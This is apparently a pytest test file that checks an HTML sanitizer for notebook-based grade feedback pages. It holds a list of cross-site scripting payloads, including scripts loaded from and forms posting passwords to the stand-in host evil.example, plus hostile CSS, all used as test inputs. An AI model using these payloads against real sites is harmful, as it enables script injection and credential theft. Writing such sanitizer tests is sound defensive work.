"""Feedback pages: nothing that a student wrote runs, loads or lies over the page; the report stays readable."""

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from traitlets.config import Config

from graders import grade
from graders.classroom.records.pages import CleanHTML, clean


class Inspector(HTMLParser):
    """Lists everything on a page that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "link",
            "form",
            "input",
            "foreignobject",
            "animate",
            "set",
        ):
            self.dangers.append(tag)
        for name, value in attrs:
            loads = name in ("href", "src", "srcdoc", "srcset", "xlink:href", "action", "formaction", "data", "poster")
            outside = loads and not re.match(r"#|data:image/(png|jpeg|gif);", value or "")
            if name.startswith("on") or outside or (name == "http-equiv"):
                self.dangers.append(f"{tag} {name}={value}")
            if re.search(r"url\((?!#)|position\s*:|javascript:", value or "", re.IGNORECASE):
                self.dangers.append(f"{tag} {name}={value}")


def inspected(page: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(page)
    return inspector


ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "a script without an end": "<script>alert(1)",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler without a space": "<svg/onload=alert(1)>",
    "a handler on a detail": "<details open ontoggle=alert(1)>x</details>",
    "a script as a link": '<a href="javascript:alert(1)">x</a>',
    "a script as a link in disguise": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a page in a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a link that goes elsewhere": '<a href="https://evil.example">x</a>',
    "a link without its scheme": '<a href="//evil.example">x</a>',
    "a picture from elsewhere": '<img src="https://evil.example/pixel.png">',
    "pictures from elsewhere": '<img srcset="https://evil.example/pixel.png 2x">',
    "a picture that is a page": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a page in a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="x.swf"></object><embed src="x">',
    "another base": '<base href="https://evil.example/">',
    "a new address": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a form": '<form action="https://evil.example"><input name=password><button formaction=x></form>',
    "a style": "<style>@import 'https://evil.example'; body {display: none}</style>",
    "a style that loads": '<p style="background:url(https://evil.example/x)">x</p>',
    "a style that loads in disguise": '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    "a cover": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">15 of 15 points</div>',
    "a style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "strange names in a drawing": '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
    "a drawing that comes to life": '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    "a drawing from elsewhere": '<svg><use xlink:href="https://evil.example/x.svg#a"/><image href="https://evil.example"/></svg>',
    "a drawing that loads": '<svg><rect fill="url(https://evil.example/#a)"/></svg>',
    "closing tags": "</div></section></main></body></html><script>alert(1)</script>",
    "a comment that never ends": "<!-- <script>alert(1)</script>",
    "a comment with an end of its own": "<!--><img src=x onerror=alert(1)>-->",
    "a title": "<title><img src=x onerror=alert(1)></title>",
    "text that is none": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "a template": "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_on_a_page_can_do_anything(name: str) -> None:
    body = f"<p>before</p>{ATTACKS[name]}<div><p>after</p></div>"
    page = clean(f"<!DOCTYPE html><html><head><title>x</title></head><body>{body}</body></html>")
    assert inspected(page).dangers == []
    assert "evil.example" not in re.sub(r"<[^>]*>", "", page) or "import" not in page
    assert "<p>before</p>" in page
    assert "<p>after</p>" in page or name == "a comment that never ends"


def graded_notebook() -> Any:
    data, metadata = grade("isolation.min_value", lambda state: 0)._repr_mimebundle_()
    hostile = "\n\n".join(ATTACKS[name] for name in ATTACKS if "end" not in name)
    shown = [new_output("display_data", {"text/html": hostile, "text/plain": hostile, "text/markdown": hostile})]
    shown += [new_output("display_data", {"application/javascript": "alert(1)"})]
    shown += [new_output("display_data", {"text/latex": hostile, "image/svg+xml": f"<svg>{hostile}</svg>"})]
    shown += [
        new_output("stream", text=hostile),
        new_output("error", ename=hostile, evalue=hostile, traceback=[hostile]),
    ]
    shown += [
        new_output(
            "display_data", {"image/png": "aGk="}, metadata={"image/png": {"width": '"><script>alert(1)</script>'}}
        )
    ]
    about = {"grade": True, "grade_id": "isolation-min_value", "locked": True, "solution": False, "points": 4}
    test = new_code_cell("emit()", metadata={"nbgrader": {**about, "schema_version": 3, "cell_type": "code"}})
    test.outputs = [new_output("display_data", data, metadata=metadata)]
    cells = [new_markdown_cell(hostile), new_markdown_cell("[x](javascript:alert(1)) ![y](https://evil.example/z.png)")]
    return new_notebook(
        cells=[*cells, new_code_cell("1", outputs=shown), test], metadata={"title": "</title><script>alert(1)</script>"}
    )


@pytest.mark.slow
def test_a_whole_page_of_an_attacker_does_nothing_and_shows_the_report(tmp_path: Path) -> None:
    secret, home = "only for this test", str(Path.home())
    nb = graded_notebook()
    nb.cells.append(new_code_cell("x", outputs=[new_output("stream", text=f"{secret} {home}/.ssh {tmp_path}")]))
    config = Config()
    config.CourseSecret.secret = secret
    page, _ = CleanHTML(config=config).from_notebook_node(nb, {"metadata": {"name": "<script>", "path": str(tmp_path)}})
    found = inspected(page)
    assert found.dangers == []
    assert {"svg", "section", "table", "pre"} & found.tags and "0 of 4 points" in page
    assert secret not in page and str(tmp_path) not in page and f"{home}/.ssh" not in page


def test_what_the_course_shows_stays() -> None:
    report = grade("isolation.min_value", lambda state: 0)._repr_html_()
    pictures = re.sub(r"<img[^>]*alt=\"([^\"]*)\"[^>]*src=\"[^\"]*\">", "", report)  # for readers without style sheets
    cleaned = clean(f"<html><head></head><body>{pictures}</body></html>")
    assert text_of(cleaned) == text_of(pictures)
    assert cleaned.count("<path") == pictures.count("<path") and 'viewbox="' in cleaned
    assert cleaned.count("fill:var(--") == pictures.count("fill:var(--") > 10
    assert "prefers-color-scheme" in cleaned


def text_of(page: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<style.*?</style>|<[^>]*>", "", page, flags=re.DOTALL)).strip()


@pytest.mark.parametrize(
    "sheet",
    [
        "body{display:none}", "#notebook{display:none}", "p,#p0d7958{color:red}", "@import '//evil.example';",
        "#p0d7958{background:url(//evil.example)}", "#p0d7958{position:fixed}", "@media url(x){#p0d7958{top:0}}",
        "#p0d7958:has(+ p){--a:'</style><script>'}",
    ],
)  # fmt: skip
def test_a_style_sheet_reaches_nothing_but_a_picture(sheet: str) -> None:
    cleaned = clean(f"<html><head></head><body><style>{sheet}</style><div><p>x</p></div></body></html>")
    assert not re.search(r"evil|fixed|none|red|top|script|import", cleaned) and "<p>x</p>" in cleaned
